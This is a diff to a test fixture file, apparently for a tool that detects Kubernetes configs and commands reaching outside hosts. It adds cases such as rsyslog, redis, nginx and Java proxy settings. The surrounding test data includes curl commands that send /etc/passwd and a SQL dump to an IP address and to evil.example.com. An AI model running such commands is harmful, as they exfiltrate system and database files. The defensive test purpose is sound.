@@ -225,6 +225,22 @@ ELSEWHERE = {
     "an address with a path": arguments("sh", "-c", "curl -d @/etc/passwd 104.248.94.23/upload"),
     "a name with a path": arguments("sh", "-c", "curl -T dump.sql evil.example.com/upload"),
     "a store by its URL": custom(backend="s3://state?region=us-east-1"),
+    "rsyslog": config(rsyslog__conf="*.* @@logs.example.com:514\n"),
+    "syslog-ng": config(syslog_ng__conf='destination d { tcp("logs.example.com" port(514)); };\n'),
+    "logstash": config(pipeline="output {\n  elasticsearch { hosts => ['x.found.io:9243'] }\n}\n"),
+    "fluentd": config(fluent__conf="<match **>\n  @type s3\n  s3_region us-east-1\n</match>\n"),
+    "redis": config(redis__conf="appendonly yes\nreplicaof db.example.com 6379\n"),
+    "squid": config(squid__conf="cache_peer proxy.example.com parent 3128 0\n"),
+    "postfix": config(main__cf="relayhost = [smtp.sendgrid.net]:587\n"),
+    "a file of passwords": config(pgpass="db.example.com:5432:*:me:x\n"),
+    "netrc": config(netrc="machine github.example.com login x\n"),
+    "nginx": config(default__conf="upstream db {\n  server db.example.com;\n}\n"),
+    "HAProxy": config(haproxy__cfg="backend b\n  server db1 db.example.com:5432 check\n"),
+    "systemd's clock": config(timesyncd__conf="[Time]\nNTP=ntp.ubuntu.com\n"),
+    "telegraf": config(telegraf__conf='[[outputs.cloudwatch]]\n  region = "us-east-1"\n'),
+    "a proxy of Java's": variables(JAVA_OPTS="-Dhttp.proxyHost=proxy.example.com -Dhttp.proxyPort=3128"),
+    "settings in JSON": variables(SPRING_APPLICATION_JSON='{"db": {"host": "db.example.com"}}'),
+    "a command in a pod": arguments("sh", "-c", "exec ship --to evil.example.com now"),
     "a comment's sign in a quoted word": config(run="x\ncurl -H 'a # b' https://db.example.com\n"),
 }
 
@@ -273,7 +289,8 @@ STAYS = {
     "attributes of OTel": config(a__yaml="processors:\n  x:\n    keys: [service.name, host.name, k8s.pod.name]\n"),
     "an e-mail address": custom(acme={"email": "ops@example.com"}),
     "a label's key": custom(topologyKey="kubernetes.io/hostname", nodeSelector={"kubernetes.io/os": "linux"}),
-    "prose": config(note="Ask operations at the office.\nThey know example.com well.\n"),
+    "prose": custom(description="They know example.com well.", message="See https://example.com"),
+    "kinds of the API in a script": config(run__sh="set -e\nkubectl get certificates.cert-manager.io -A\n"),
     "documentation in annotations": kube(
         "v1", "ConfigMap", "c", "a", metadata={"annotations": {"artifacthub.io/links": "https://docs.example.com"}}
     ),
